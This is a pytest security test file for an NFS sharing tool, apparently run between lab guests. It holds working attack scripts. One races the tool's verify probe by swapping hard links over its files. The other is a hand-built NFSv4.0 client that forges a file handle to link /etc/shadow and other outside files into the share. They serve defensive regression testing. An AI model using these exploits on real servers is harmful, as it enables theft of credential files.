# SPDX-License-Identifier: GPL-2.0-or-later
"""A follower's root against the leader's: links over the probe's file, and files from outside.

Everything here stays between the guests of the lab.
"""

import json

import pytest
from lab.lab import LEADER
from lab.scene import (
    FOLLOWER,
    SHARE,
    as_user,
    await_in,
    gone_after,
    init,
    mount,
    result,
    run_fix,
)

pytestmark = [pytest.mark.server("running"), pytest.mark.first]

VERIFIES = 30
CONFINED = "--subtree-check"
DATASETS = f"{SHARE}/datasets"
VICTIM = "/etc/victim.conf"
AT, STOP = "/run/hostile", "/run/hostile.stop"

# Whoever sees a probe's file renames a hard link over it, as fast as it can, until it is stopped.
SWAP = f"""
import os, sys
where, source = sys.argv[1:]
os.chdir(where)
seen, swaps, number, ready = set(), 0, 0, []
while not os.path.exists("{STOP}"):
    while len(ready) < 3:
        number += 1
        os.link(source, f".ready-{{number}}")
        ready.append(f".ready-{{number}}")
    for name in os.listdir("."):
        if name.startswith(".gshare-probe-") and name not in seen:
            seen.add(name)
            try:
                os.rename(ready[-1], name)
            except OSError:
                continue
            ready.pop()
            swaps += 1
            break
    open("/run/hostile.ready", "w").close()
for name in ready:
    os.unlink(name)
print(swaps)
"""

# NFSv4.0 by hand, as RFC 7530 writes it down: the handle of the file system's root is made up from
# the share's (inode 2, as on any ext4), and PATH below it is linked into the datasets.
LINK = f"""
import socket, struct, sys
new, path = sys.argv[1], sys.argv[2].strip("/").split("/")
PUTROOTFH, GETFH, SAVEFH, LOOKUP, PUTFH, LINK = 24, 10, 32, 15, 22, 11
sock = socket.socket()
for port in range(700, 1000):
    try:
        sock.bind(("", port))
        break
    except OSError:
        pass
sock.connect(("{LEADER}", 2049))
def words(*values):
    return b"".join(struct.pack(">I", value) for value in values)
def opaque(text):
    return words(len(text)) + text + bytes(-len(text) % 4)
def take(size):
    data = b""
    while len(data) < size:
        part = sock.recv(size - len(data))
        if not part:
            sys.exit("the server is gone")
        data += part
    return data
def call(ops):
    cred = words(0) + opaque(b"f") + words(4242, 4242, 0)
    body = words(1, 0, 2, 100003, 4, 1, 1) + opaque(cred) + words(0, 0, 0, 0, len(ops)) + b"".join(ops)
    sock.sendall(words(1 << 31 | len(body)) + body)
    reply = take(struct.unpack(">I", take(4))[0] & 0x7fffffff)[24:]
    return struct.unpack(">I", reply[:4])[0], reply
def look(*names):
    return [words(LOOKUP) + opaque(name.encode()) for name in names]
def handle(ops):
    status, reply = call([*ops, words(GETFH)])
    if status:
        return status, b""
    at = reply.rfind(words(GETFH, 0)) + 8
    return 0, reply[at + 4:at + 4 + struct.unpack(">I", reply[at:at + 4])[0]]
share = handle([words(PUTROOTFH), *look(*"{SHARE}".strip("/").split("/"))])[1]
datasets = handle([words(PUTROOTFH), *look(*"{DATASETS}".strip("/").split("/"))])[1]
forged = bytes((*share[:3], 1)) + share[4:] + struct.pack("<II", 2, 0)
status, file = handle([words(PUTFH) + opaque(forged), *look(*path)])
if not status:
    status = call([words(PUTFH) + opaque(file), words(SAVEFH), words(PUTFH) + opaque(datasets),
                   words(LINK) + opaque(new.encode())])[0]
print(status)
"""


def forge(follower, new, path):
    """Link a file of the leader's file system into the share; return the NFS status, 0 if done."""
    follower.put(f"{AT}-link.py", LINK)
    return int(follower.run(f"python3 {AT}-link.py {new} {path}").out)


def look(leader, *paths):
    """All of files that a link more or less leaves as it was."""
    return leader.run(f"stat -c '%n %i %a %u:%g %s %Y' {' '.join(paths)}; "
                      f"sha256sum {' '.join(paths)}; getfacl -pn {' '.join(paths)}").out


def swapped_verifies(leader, follower, source):
    """Have verify run on the leader while a follower swaps; return the swaps, and what was told."""
    follower.put(f"{AT}-swap.py", SWAP)
    follower.run(f"rm -f {STOP} {AT}.ready; mkdir -p /mnt/x; mount -t nfs4 -o "
                 f"noac,lookupcache=none,vers=4.2 {LEADER}:{SHARE} /mnt/x")
    job = follower.start(f"python3 {AT}-swap.py /mnt/x/datasets {source}")
    await_in(follower, f"test -e {AT}.ready")
    told = {}
    for _ in range(VERIFIES):
        done = leader.run("gshare verify --json", check=False)
        assert done.status in (0, 3), done
        told |= {finding["id"]: finding["fix"] for finding in json.loads(done.out)["findings"]}
    follower.run(f"touch {STOP}")
    ended = job.wait(30)
    follower.run("umount /mnt/x")
    return int(ended.out.split()[-1]), told


def test_the_card_is_out_of_reach(leader, follower):
    """Hard links to .gshare-id, which root on a follower may make, over the probe's file."""
    init(leader, f"--follower {FOLLOWER} {CONFINED}")
    card = f"{SHARE}/.gshare-id"
    before = look(leader, card)
    swaps, told = swapped_verifies(leader, follower, "/mnt/x/.gshare-id")
    print(f"{swaps} swaps in {VERIFIES} verifies, told: {sorted(told)}")
    assert swaps > 0
    assert look(leader, card) == before
    assert "PROBE_UNSAFE" not in told
    run_fix(told["PROBE_SWAPPED"], leader)
    mount(follower)
    assert result(follower, "gshare verify")["findings"] == []


def test_a_file_from_outside_is_not_written(leader, follower):
    """By a forged handle, where the share's file system holds more than the share."""
    init(leader)
    leader.run(f"sed -i s/,subtree_check/,no_subtree_check/ /etc/exports && exportfs -ra; "
               f"echo secret >{VICTIM}; chmod 600 {VICTIM}")
    before = look(leader, VICTIM)
    assert forge(follower, "gotcha", VICTIM) == 0
    swaps, told = swapped_verifies(leader, follower, "/mnt/x/datasets/gotcha")
    print(f"{swaps} swaps in {VERIFIES} verifies, told: {sorted(told)}")
    assert swaps > 0 and "PROBE_UNSAFE" in told
    assert look(leader, VICTIM) == before
    shown = result(leader, f"gshare verify {SHARE}")
    assert shown["access"][0]["uid"] == 0 and shown["access"][0]["create"] == "-", shown
    leader.run(f"rm -f {VICTIM} {DATASETS}/gotcha")
    gone_after(leader, "gshare verify", "PROBE_UNSAFE")


def test_repair_gives_no_file_of_others(leader, follower):
    """A link to /etc/shadow stays when that is replaced; it looks like a file of the share's."""
    init(leader)
    leader.run("sed -i s/,subtree_check/,no_subtree_check/ /etc/exports && exportfs -ra; "
               "cp -a /etc/shadow /root/shadow")
    try:
        assert forge(follower, "innocent.csv", "/etc/shadow") == 0
        leader.run("echo ubuntu:x1 | chpasswd")
        inode = leader.run(f"stat -c '%h %a %G' {DATASETS}/innocent.csv").out.split()
        assert inode == ["1", "640", "shadow"], inode
        before = look(leader, f"{DATASETS}/innocent.csv")

        for words in ("", " --dry-run"):
            refused = leader.run(f"gshare leader repair{words}", check=False)
            assert refused.status == 1 and "REPAIR_UNSAFE" in refused.err, refused
            assert f"sudo gshare leader init {SHARE} --subtree-check" in refused.err, refused
        assert look(leader, f"{DATASETS}/innocent.csv") == before

        # What was linked before the way was closed is still there.
        leader.run(f"gshare leader init {SHARE} {CONFINED}")
        assert forge(follower, "another", "/etc/shadow") != 0
        leader.run(f"install -m 600 /etc/hostname {DATASETS}/honest")
        done = result(leader, "gshare leader repair")
        assert [line["path"] for line in done["repair"]["given"]] == ["datasets/honest"]
        assert [line["path"] for line in done["repair"]["kept"]] == ["datasets/innocent.csv"]
        assert not any("setfacl" in str(found["fix"]) for found in done["findings"]), done
        assert look(leader, f"{DATASETS}/innocent.csv") == before

        mount(follower)
        for uid in (0, 1000, 4242):
            stolen = follower.run(as_user(uid, f"cat {DATASETS}/innocent.csv"), check=False)
            assert stolen.status and "root:" not in stolen.out, stolen
        follower.run(as_user(4242, f"echo more >>{DATASETS}/honest"))
    finally:
        leader.run(f"cp -a /root/shadow /etc/shadow; rm -f /root/shadow {DATASETS}/innocent.csv")
